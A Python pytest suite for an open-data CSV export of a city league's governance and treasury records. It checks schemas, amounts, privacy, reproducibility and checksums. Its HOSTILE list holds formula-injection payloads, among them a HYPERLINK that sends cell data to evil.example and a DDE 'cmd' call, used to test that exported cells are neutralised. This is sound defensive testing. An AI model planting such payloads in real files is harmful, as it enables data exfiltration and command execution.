"""The open data: as its schema says, the same bytes for the same record, nothing private."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
import zipfile
from dataclasses import fields
from datetime import datetime
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from typing import Any, get_type_hints

import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st
from tests.assembly.electing import CLOSED, CODE, IMPORT, ROLL, Electing, opening
from tests.assembly.meetings import BEGINS, assembled
from tests.assembly.test_project_votes import CAST, adopted, brought
from tests.assembly.test_project_votes import CLOSED as CLOSES
from tests.assembly.test_project_votes import opening as project_vote
from tests.forum.forums import ANSWER_BY, forum, reached
from tests.support.auditing import BY_MONEY, PAYMENTS, spent
from tests.support.coalition import League
from tests.support.leaving import promised
from tests.support.money import Chest, midyear
from tests.support.tableschema import faults
from tests.support.witnesses import WITNESSED, registered

from koinon.acts.gate import tick
from koinon.cities.queries import witness_keys
from koinon.config import environment
from koinon.forum.models import Signature
from koinon.interfaces.shared.opendata import cells, edition, keeping, meanings
from koinon.interfaces.shared.opendata.columns import columns
from koinon.interfaces.shared.opendata.licences import LICENCES
from koinon.interfaces.shared.opendata.tables import TABLES
from koinon.record import store
from koinon.record.models import Cosignature
from koinon.treasury import queries as treasury

HOSTILE = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Dues")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'quoted",
    "＝1+1",
    'a "b", c; d =e',
    "–",
    "قرار، “نص”",
]


def written(folder: Path, before: Path | None = None) -> Path:
    folder.mkdir()
    edition.write(folder, before)
    return folder


def table(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def spoken(text: str) -> dict[str, Any]:
    return {"title": [{"language": "en", "text": text}], "matter": "ordinary"}


def hostile(league: League) -> None:
    for text in HOSTILE:
        league.act("assembly.open_proposal/1", spoken(text), "secretariat")


def test_every_column_says_what_it_means_and_every_table_has_its_key() -> None:
    for one in TABLES:
        named = {field.name for field in fields(one.row)}
        assert set(one.key) <= named, one.name
        assert {column.field for column in columns(one, "EUR")} == named
        for column in columns(one, "EUR"):
            assert len(column.schema["description"]) > 5, (one.name, column.name)
    used = {f"{one.name}.{field.name}" for one in TABLES for field in fields(one.row)}
    bare = {field.name for one in TABLES for field in fields(one.row)}
    assert set(meanings._ALL) <= used | bare


def test_amounts_in_cents_are_whole_numbers_of_them() -> None:
    """Exact parts of a cent are fractions, under a name of another ending."""
    for one in TABLES:
        hints = get_type_hints(one.row)
        for field in fields(one.row):
            if field.name.endswith("_cents"):
                assert hints[field.name] in (int, int | None), (one.name, field.name)


def test_what_a_leaver_owed_is_in_it(db: None, tmp_path: Path) -> None:
    purse = promised()
    purse.leave("namur")
    purse.charge("namur")
    edition.write(tmp_path)
    energy, water = table(tmp_path, "residual_parts")
    assert (energy["unpaid"], energy["share"]) == ("6000.01", "11/50")
    assert energy["owed_minor_exact"] == str(Fraction(11, 50) * 600_001)
    assert water["uncharged_minor_exact"] == "210001"
    (charged,) = table(tmp_path, "residuals")
    assert charged["residual_minor"] == "242000"


def test_money_that_has_other_decimals() -> None:
    charges = next(one for one in TABLES if one.name == "charges")
    units = [column.schema.get("unit") for column in columns(charges, "TND")]
    assert units == [None, None, "TND x 10^-3", "TND"]
    assert [c.schema.get("unit") for c in columns(charges, "JPY")][2:] == ["JPY", "JPY"]


@given(st.integers(-(2**53) + 1, 2**53 - 1), st.integers(0, 4))
def test_an_amount_is_the_same_twice(minor: int, exponent: int) -> None:
    said = cells.amount(minor, exponent)
    assert Fraction(Decimal(said)) == Fraction(minor, 10**exponent)
    assert len(said.partition(".")[2]) == exponent


@given(st.text() | st.sampled_from(HOSTILE))
def test_a_text_cannot_be_a_formula_and_comes_back_exactly(text: str) -> None:
    said = cells.cell(text)
    if said[:1] in set("=+-@\t\r\n＝＋－＠"):
        Fraction(said.replace("-", "", 1))  # a number, which is no formula
    assert cells.text(said) == text


def test_what_the_schema_says_is_so(db: None, tmp_path: Path) -> None:
    chest = midyear()
    hostile(chest)
    folder = written(tmp_path / "data")
    assert list(faults(folder)) == []
    titles = [cells.text(row["title"]) for row in table(folder, "proposals")]
    assert titles[-len(HOSTILE) :] == HOSTILE
    raw = (folder / "proposals.csv").read_bytes()
    assert b"\r\n" in raw
    assert b"\n5,'@SUM(A1:A9)," in raw


def test_the_checker_sees_faults(db: None, tmp_path: Path) -> None:
    midyear()
    folder = written(tmp_path / "data")
    file = folder / "votes.csv"
    file.write_text(file.read_text().replace("1,ghent", "99,atlantis"))
    found = list(faults(folder))
    assert any("other bytes" in one for one in found)
    assert any("('99',) is not there" in one for one in found)
    assert any("('atlantis',) is not there" in one for one in found)


def test_the_figures_are_the_record_s(db: None, tmp_path: Path) -> None:
    midyear()
    folder = written(tmp_path / "data")
    charges = {row["city"]: int(row["amount_minor"]) for row in table(folder, "charges")}
    assert charges == {"ghent": 53_444_44, "leuven": 20_555_56, "namur": 20_000_00}
    assert sum(charges.values()) == 94_000_00
    line = next(row for row in table(folder, "budget_lines") if row["line"] == "heat")
    assert (line["budget_minor"], line["budget"]) == ("9000000", "90000.00")
    stages = ("committed", "accrued", "paid", "available", "lapsed")
    assert sum(int(line[f"{stage}_minor"]) for stage in stages) == 90_000_00
    balances = {row["account"]: int(row["balance_minor"]) for row in table(folder, "accounts")}
    assert sum(balances.values()) == 0
    trial = {row.account: row.net_cents for row in treasury.trial_balance("EUR")}
    assert balances == trial
    moved = sum(int(row["amount_minor"]) for row in table(folder, "transfers"))
    assert moved == sum(int(row["debits_minor"]) for row in table(folder, "accounts"))
    assert len(table(folder, "entries")) == store.head().size


def test_nothing_private_is_in_it(db: None, tmp_path: Path) -> None:
    midyear()
    folder = written(tmp_path / "data")
    everything = b"".join(one.read_bytes() for one in folder.iterdir() if one.suffix != ".zip")
    assert b"Warm Ltd" not in everything
    assert b"Heat pumps" in everything
    columns_said = {column.name for one in TABLES for column in columns(one, "EUR")}
    assert {"payee", "under_protest", "instrument_sha256", "email"} & columns_said == set()
    assert "holder" not in {
        c.name for t in TABLES if t.name == "mandates" for c in columns(t, "EUR")
    }


def test_a_meeting_is_in_it(db: None, tmp_path: Path) -> None:
    chamber = assembled()
    meeting = chamber.convene("Trams")
    number = chamber.put(meeting)
    chamber.at = BEGINS
    chamber.attend(meeting, "ghent", {"city": "leuven", "online": True})
    folder = written(tmp_path / "data")
    assert list(faults(folder)) == []
    present = [
        (row["city"], row["present_by"], row["online"]) for row in table(folder, "attendance")
    ]
    assert present == [("ghent", "delegate", "false"), ("leuven", "delegate", "true")]
    (proposal,) = [one for one in table(folder, "proposals") if one["proposal"] == str(number)]
    assert (proposal["meeting"], proposal["opens_at"], proposal["closes_at"]) == ("1", "", "")


def test_a_proxy_for_a_meeting_is_in_it(db: None, tmp_path: Path) -> None:
    chamber = assembled()
    meeting = chamber.convene("Trams", "Trees")
    for city, holder, more in (("ghent", "mons", {}), ("leuven", "namur", {"item": 2})):
        given = {"holder": f"council/{holder}", "meeting": meeting, **more}
        chamber.delegate(city, "assembly.give_proxy/2", **given)
    folder = written(tmp_path / "data")
    assert list(faults(folder)) == []
    said = [(row["giver"], row["meeting"], row["item"]) for row in table(folder, "proxies")]
    assert said == [("council/ghent", "1", ""), ("council/leuven", "1", "2")]


def test_an_election_is_in_it_without_the_names_of_those_who_stand(
    db: None, tmp_path: Path
) -> None:
    chamber = Electing().adopted(opening()).paper("vera", "jan", "amina")
    roll = [{"city": "ghent", "entitled": 100, "issued": 12}]
    chamber.act(ROLL, {"code": CODE, "rolls": roll}, "secretariat")
    chamber.bring({"vera": 5, "jan": 2}, "ghent")
    chamber.at = CLOSED
    tick(at=chamber.at)
    folder = written(tmp_path / "data")
    assert list(faults(folder)) == []
    (row,) = table(folder, "elections")
    assert (row["election"], row["rule"], row["voters"]) == (CODE, "plurality/1", "7")
    assert row["result_sha256"]
    stood = [
        (one["candidate"], one["title"], one["elected"]) for one in table(folder, "candidates")
    ]
    assert stood == [("vera", "", "1"), ("jan", "", ""), ("amina", "", "")]
    assert [one["issued"] for one in table(folder, "rolls")] == ["12"]


def test_a_vote_on_projects_is_in_it(db: None, tmp_path: Path) -> None:
    chamber = adopted(project_vote())
    chamber.act(IMPORT, brought(chamber, CAST), "secretariat")
    chamber.at = CLOSES
    tick(at=chamber.at)
    folder = written(tmp_path / "data")
    assert list(faults(folder)) == []
    (budget,) = table(folder, "participatory_budgets")
    assert (budget["voters"], budget["status"]) == ("10", "counted")
    funded = [
        (one["candidate"], one["title"], one["elected"]) for one in table(folder, "candidates")
    ]
    assert funded == [("trees", "Trees", "1"), ("park", "Park", ""), ("library", "Library", "2")]


def test_initiatives_are_counted_and_nobody_is_marked(db: None, tmp_path: Path) -> None:
    made = forum()
    reached(made)
    folder = written(tmp_path / "data")
    assert list(faults(folder)) == []
    (row,) = table(folder, "initiatives")
    assert (row["status"], row["signatures_needed"], row["answer_by_at"]) == (
        "reached",
        "5",
        ANSWER_BY,
    )
    assert row["title"] == "Night trains between our cities"
    counted = [(one["city"], one["signatures"]) for one in table(folder, "initiative_signatures")]
    assert counted == [("ghent", "3"), ("leuven", "2")]
    assert [one["residents"] for one in table(folder, "attestations")] == ["10"] * 3
    everything = b"".join(one.read_bytes() for one in folder.iterdir())
    for mark in Signature.objects.values_list("mark", flat=True):
        assert mark.encode() not in everything


def test_an_audit_is_in_it(db: None, tmp_path: Path) -> None:
    chest = spent()
    opened = {"year": 2025, "scope": "All", "materiality_cents": 3_000_00, "basis": "3 %"}
    chest.auditor("open_audit", **opened)
    chest.auditor("plan_sample", **BY_MONEY, after_entries=1)
    asked = {"audit": 1, "entry": 0, "what": "The charter", "seat": "treasurer"}
    chest.auditor("request_evidence", **asked)
    chest.auditor("draw_sample", sample=1)
    chest.at = "2025-01-09T09:00:00.000000Z"
    letters = {"audit": 1, "on": "2025-01-08", "cities": ["ghent", "namur"]}
    chest.auditor("ask_confirmations", **letters)
    folder = written(tmp_path / "data")
    assert list(faults(folder)) == []
    (sample,) = table(folder, "audit_samples")
    assert (sample["items"], sample["total_minor"], sample["total"]) == ("8", "1000000", "10000.00")
    lines = [int(row["amount_minor"]) for row in table(folder, "sampled_lines")]
    assert set(lines) <= set(PAYMENTS)
    assert 4_000_00 in lines  # larger than the interval, so that it is always drawn
    owed = [(row["city"], row["balance_minor"]) for row in table(folder, "confirmations")]
    assert owed == [("ghent", "0"), ("namur", "1100000")]
    assert [row["what"] for row in table(folder, "audit_requests")] == ["The charter"]
    assert [row["opinion"] for row in table(folder, "audits")] == [""]


def test_who_countersigned_is_in_it(db: None, tmp_path: Path) -> None:
    league = League()
    league.found({"ghent": 2, "namur": 1}, WITNESSED)
    registered(league, "ghent", 7)
    (known,) = witness_keys()
    sent = {"size": 2, "time": 1_735_689_600, "signature": "", "by_log": ""}
    for key in (known.key, "nobody+00000000+AA"):
        Cosignature.objects.create(key=key, **sent)
    folder = written(tmp_path / "open")
    assert list(faults(folder)) == []
    (row,) = table(folder, "witness_keys")
    assert (row["city"], row["witness_key"]) == ("ghent", known.key)
    assert table(folder, "countersignatures") == [
        {
            "size": "2",
            "witness_key": known.key,
            "countersigned_at": "2025-01-01T00:00:00.000000Z",
        }
    ]


def test_what_a_column_means_is_said_in_every_language(db: None, tmp_path: Path) -> None:
    midyear()
    folder = written(tmp_path / "data")
    package = json.loads((folder / "datapackage.json").read_text())
    codes = {code for code, _ in settings.LANGUAGES}
    for one in package["resources"]:
        said = [one, *one["schema"]["fields"]]
        for told in said:
            assert set(told["descriptions"]) == codes
            assert told["descriptions"]["en"] == told["description"]
            for code in codes - {"en"}:
                assert told["descriptions"][code] != told["description"], (one["name"], told)
    votes = next(one for one in package["resources"] if one["name"] == "votes")
    against = next(one for one in votes["schema"]["fields"] if one["name"] == "no")
    assert against["descriptions"]["fr"] == "La part contre, exacte."
    charges = next(one for one in package["resources"] if one["name"] == "charges")
    exact = next(one for one in charges["schema"]["fields"] if one["name"] == "amount_minor")
    assert "10^2 de ellas son 1 EUR" in exact["descriptions"]["es"]


def test_the_same_record_gives_the_same_bytes(db: None, tmp_path: Path) -> None:
    midyear()
    one, other = written(tmp_path / "one"), written(tmp_path / "other")
    assert {f.name: f.read_bytes() for f in one.iterdir()} == {
        f.name: f.read_bytes() for f in other.iterdir()
    }


def test_what_travels_with_the_tables(db: None, tmp_path: Path) -> None:
    midyear()
    folder = written(tmp_path / "data")
    package = json.loads((folder / "datapackage.json").read_text())
    assert package["checkpoint"]["size"] == store.head().size
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    assert package["checkpoint"]["root"] in (folder / "README.md").read_text()
    sums = dict(
        reversed(line.split("  ")) for line in (folder / "SHA256SUMS").read_text().splitlines()
    )
    assert sums.keys() == {f.name for f in folder.iterdir()} - {"SHA256SUMS", "open-data.zip"}
    for name, digest in sums.items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest
    with zipfile.ZipFile(folder / "open-data.zip") as kept:
        inside = {name.partition("/")[2]: kept.read(name) for name in kept.namelist()}
    assert inside == {f.name: f.read_bytes() for f in folder.iterdir() if f.suffix != ".zip"}


def test_an_edition_says_what_changed(db: None, tmp_path: Path) -> None:
    league = League()
    league.found({"ghent": 2, "namur": 1})
    number = league.propose("Trams", matter="ordinary")
    league.at = "2025-01-04T08:00:00.000000Z"
    league.vote(number, "ghent", "yes")
    first = written(tmp_path / "first")
    league.vote(number, "ghent", "no")
    league.vote(number, "namur", "no")
    second = written(tmp_path / "second", first)
    said = (second / "CHANGES.md").read_text()
    assert "From 3 to 5 entries of the record." in said
    assert "- votes.csv: 1 rows added, 1 changed, 0 removed" in said
    assert "- entries.csv: 2 rows added, 0 changed, 0 removed" in said
    assert "members.csv" not in said
    third = written(tmp_path / "third", second)
    assert "No row of any table changed." in (third / "CHANGES.md").read_text()


def test_licences_are_those_of_the_settings(monkeypatch: pytest.MonkeyPatch) -> None:
    assert tuple(LICENCES) == environment.DATA_LICENCES
    monkeypatch.setenv("KOINON_DATA_LICENCE", "CC0-1.0")
    assert environment.data_licence() == "CC0-1.0"
    monkeypatch.setenv("KOINON_DATA_LICENCE", "mine")
    with pytest.raises(ValueError, match="'mine' is none of CC-BY-4"):
        environment.data_licence()


def night(day: str, hour: int = 3) -> datetime:
    return datetime.fromisoformat(f"{day}T{hour:02}:00:00+01:00")


@pytest.fixture
def chest(db: None, tmp_path: Path, settings: Any) -> Chest:
    settings.HOME = tmp_path
    return midyear()


def test_editions_are_made_by_night_and_only_of_what_is_new(chest: Chest) -> None:
    assert keeping.due(night("2025-02-01", 15))  # the first one at once
    assert keeping.make(night("2025-02-01", 15)) is not None
    assert not keeping.due(night("2025-02-01", 23))
    assert not keeping.due(night("2025-02-02", 1))
    assert keeping.due(night("2025-02-02", 2))
    assert keeping.make(night("2025-02-02", 2)) is None  # nothing new
    assert not keeping.due(night("2025-02-02", 20))
    hostile(chest)
    assert not keeping.due(night("2025-02-02", 21))
    assert keeping.due(night("2025-02-03"))
    made = keeping.make(night("2025-02-03"))
    assert made is not None
    assert [one.day for one in keeping.editions()] == ["2025-02-03", "2025-02-01"]
    assert "9 rows added" in (made.folder / "CHANGES.md").read_text()
    assert oct(made.folder.stat().st_mode & 0o777) == "0o755"


def test_before_a_founding_there_is_nothing_to_make(
    db: None, tmp_path: Path, settings: Any
) -> None:
    settings.HOME = tmp_path
    assert not keeping.due(night("2025-02-01"))
    with pytest.raises(edition.NothingToSay):
        edition.write(tmp_path)
    assert keeping.latest() is None


def test_a_failure_leaves_the_last_edition_alone(
    chest: Chest, monkeypatch: pytest.MonkeyPatch
) -> None:
    keeping.make(night("2025-02-01"))
    hostile(chest)

    def full(folder: Path) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as broken:
        broken.setattr(edition, "_sums", full)
        with pytest.raises(OSError, match="No space"):
            keeping.make(night("2025-02-02"))
    assert [one.name for one in keeping.home().iterdir() if one.is_dir()] == ["2025-02-01"]
    (keeping.home() / ".making-crashed").mkdir()
    assert keeping.make(night("2025-02-02")) is not None  # tried again, and cleared up
    assert not list(keeping.home().glob(".making-*"))


def test_of_old_editions_the_last_of_each_month_stays(chest: Chest) -> None:
    keeping.make(night("2025-04-20"))
    first = keeping.home() / "2025-04-20"
    for day in ("2024-12-30", "2024-12-31", "2025-02-03", "2025-03-15", "2025-03-17", "2025-03-20"):
        shutil.copytree(first, keeping.home() / day)
    keeping.make(night("2025-04-21"))
    assert [one.day for one in keeping.editions()] == [
        "2025-04-20",
        "2025-03-20",
        "2025-03-17",
        "2025-02-03",
        "2024-12-31",
    ]
